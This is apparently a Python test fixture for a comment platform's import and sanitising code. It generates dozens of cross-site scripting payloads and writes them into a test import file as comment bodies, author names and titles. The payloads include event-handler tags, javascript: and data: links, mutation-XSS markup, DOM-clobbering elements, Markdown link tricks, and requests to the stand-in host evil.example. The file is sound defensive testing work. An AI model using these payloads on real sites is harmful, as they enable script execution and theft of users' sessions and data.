"""What attackers write: in bodies as HTML and as Markdown, in names and in titles. Every one calls `xss()`."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

from rejoinder.transfer.jsonl import LineWriter
from rejoinder.transfer.records import CommentRecord, DiscussionRecord, ReaderRecord

_START = datetime(2026, 1, 1, tzinfo=UTC)

_HANDLERS = [
    f"<{tag} {event}=xss()>"
    for tag, event in [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("style", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("p style=animation-name:x", "onanimationstart"),
        ("a href=# autofocus tabindex=1", "onfocus"),
    ]
]
_LINKS = [
    f'<a href="{address}">click</a>'
    for address in [
        "javascript:xss()",
        "JaVaScRiPt:xss()",
        " javascript:xss()",
        "java\tscript:xss()",
        "java&#10;script:xss()",
        "&#106;avascript:xss()",
        "javascript&colon;xss()",
        "vbscript:xss()",
        "data:text/html,<script>xss()</script>",
        "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
        "\x01javascript:xss()",
        "//evil.example/%0d%0axss",
    ]
]
_MARKUP = [
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script/src=data:,xss()>",
    "<<script>xss()//<</script>",
    "<svg><script>xss()</script></svg>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=xss()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<title><img src=x onerror=xss()></title>",
    "<textarea></textarea><img src=x onerror=xss()>",
    "</textarea><img src=x onerror=xss()>",
    "</p></li></ol></article></main><script>xss()</script>",
    "<template><script>xss()</script></template>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<button form=reply-form formaction=javascript:xss()>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<img src=https://evil.example/pixel.gif>",
    "<link rel=prefetch href=https://evil.example/>",
    '<div style="background:url(https://evil.example/)">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a id=reply-form name=text href=x>clobber</a>",
    "<p id=comments class=is-pinned>pretend</p>",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>xss()</script></x>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "\u2028</script><script>xss()</script>",
    '"><img src=x onerror=xss()>',
    "'-xss()-'",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}",
    "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>xss()</script>",
]
_MARKDOWN = [
    "[click](javascript:xss())",
    "[click](JAVASCRIPT:xss())",
    "[click](&#x6A;avascript:xss())",
    "[click](data:text/html,<script>xss()</script>)",
    "![alt](javascript:xss())",
    '![" onerror=xss() x="](https://evil.example/a.png)',
    '[a](https://example.org/"onmouseover="xss())',
    "<javascript:xss()>",
    "[ref]\n\n[ref]: javascript:xss()",
    "`<img src=x onerror=xss()>`",
    "```html\n<script>xss()</script>\n```",
    '```"><img src=x onerror=xss()>\ncode\n```',
    "> <script>xss()</script>",
    "* <img src=x onerror=xss()>",
    'https://example.org/"><img src=x onerror=xss()>',
]

OWN = (*_HANDLERS, *_LINKS, *_MARKUP, *_MARKDOWN)


def all_payloads(data: Path) -> list[str]:
    """Return our own payloads, and those of a sanitiser's tests where they are at hand."""
    path = data / "hostile" / "dompurify-half.json"
    others = (
        [row["payload"] for row in json.loads(path.read_text("utf-8"))] if path.is_file() else []
    )
    return [*OWN, *(str(payload).replace("alert(", "xss(") for payload in others)]


def write_payloads(path: Path, *, data: Path) -> Path:
    """Write an import file with each payload as HTML, as Markdown, as a name, and one as a title."""
    with path.open("wb") as file, LineWriter(file, site="hostile") as writer:
        writer.write(ReaderRecord(source_id="mallory", name="Mallory"))
        for source_format in ("html", "markdown"):
            writer.write(
                DiscussionRecord(
                    source_id=source_format,
                    external_id=source_format,
                    title="</title><script>xss()</script><img src=x onerror=xss()>",
                    summary='"><script>xss()</script>',
                    urls=(f"https://hostile.example/{source_format}?a='onmouseover=xss()",),
                    published_at=_START,
                )
            )
        for record in _comments(data):
            writer.write(record)
    return path


def _comments(data: Path) -> Iterator[CommentRecord]:
    for number, payload in enumerate(all_payloads(data)):
        text = payload.replace("\0", "")
        for source_format in ("html", "markdown"):
            yield CommentRecord(
                source_id=f"{source_format}/{number}",
                discussion_source_id=source_format,
                author="mallory",
                author_name=text[:60],
                raw=text,
                format="html" if source_format == "html" else "markdown",
                status="published",
                created_at=_START + timedelta(minutes=number),
            )
